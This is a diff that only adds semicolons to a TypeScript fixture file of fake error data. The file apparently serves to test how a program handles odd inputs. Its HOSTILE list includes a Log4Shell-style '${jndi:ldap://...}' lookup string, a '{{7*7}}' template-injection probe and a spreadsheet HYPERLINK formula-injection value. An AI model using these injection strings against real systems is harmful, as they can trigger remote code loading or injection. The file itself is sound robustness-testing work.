@@ -1,5 +1,5 @@
 /** An exception as a title is made of: `type: value`. */
-export type Fault = { readonly type: string; readonly value: string }
+export type Fault = { readonly type: string; readonly value: string };
 
 /** Texts that break careless programs. The first cast members get them. */
 export const HOSTILE: readonly Fault[] = [
@@ -17,20 +17,20 @@ export const HOSTILE: readonly Fault[] = [
   { type: 'Error', value: '{"json":"inside","n":[1,2]} ${jndi:ldap://example.com} {{7*7}}' },
   { type: 'Error', value: '=HYPERLINK("http://example.com","click") ,;|' },
   { type: 'Error', value: '   ' },
-]
+];
 
 export const ERROR_TYPES: readonly string[] = ['TypeError', 'Error', 'TimeoutError', 'ValidationError', 'ConnectionError', 'KeyError',
-  'RangeError', 'PermissionError', 'NotFoundError', 'AssertionError']
+  'RangeError', 'PermissionError', 'NotFoundError', 'AssertionError'];
 
 export const SUBJECTS: readonly string[] = ['checkout', 'payment', 'login', 'basket', 'search', 'invoice', 'profile', 'upload', 'webhook',
-  'export', 'session', 'catalogue', 'discount', 'shipment']
+  'export', 'session', 'catalogue', 'discount', 'shipment'];
 
 export const COMPLAINTS: readonly string[] = ['timed out', 'connection reset by peer', 'is not a function', 'returned status 500', 'was declined',
-  'failed health check', 'not found', 'exceeded its quota', 'has expired', 'is locked', 'could not be parsed', 'already exists']
+  'failed health check', 'not found', 'exceeded its quota', 'has expired', 'is locked', 'could not be parsed', 'already exists'];
 
 export const CULPRITS: readonly string[] = ['app/checkout.pay', 'app/basket.add', 'api/orders.list', 'api/login.post', 'worker/jobs.run',
-  'mobile/Screen.render', 'lib/http.request', 'Object.fetch(index)']
+  'mobile/Screen.render', 'lib/http.request', 'Object.fetch(index)'];
 
-export const FILES: readonly string[] = ['checkout.js', 'basket.ts', 'orders.py', 'login.py', 'jobs.rb', 'Screen.kt', 'http.ts', 'index.js']
+export const FILES: readonly string[] = ['checkout.js', 'basket.ts', 'orders.py', 'login.py', 'jobs.rb', 'Screen.kt', 'http.ts', 'index.js'];
 
-export const FUNCTIONS: readonly string[] = ['pay', 'add', 'list', 'post', 'run', 'render', 'request', 'fetch']
+export const FUNCTIONS: readonly string[] = ['pay', 'add', 'list', 'post', 'run', 'render', 'request', 'fetch'];
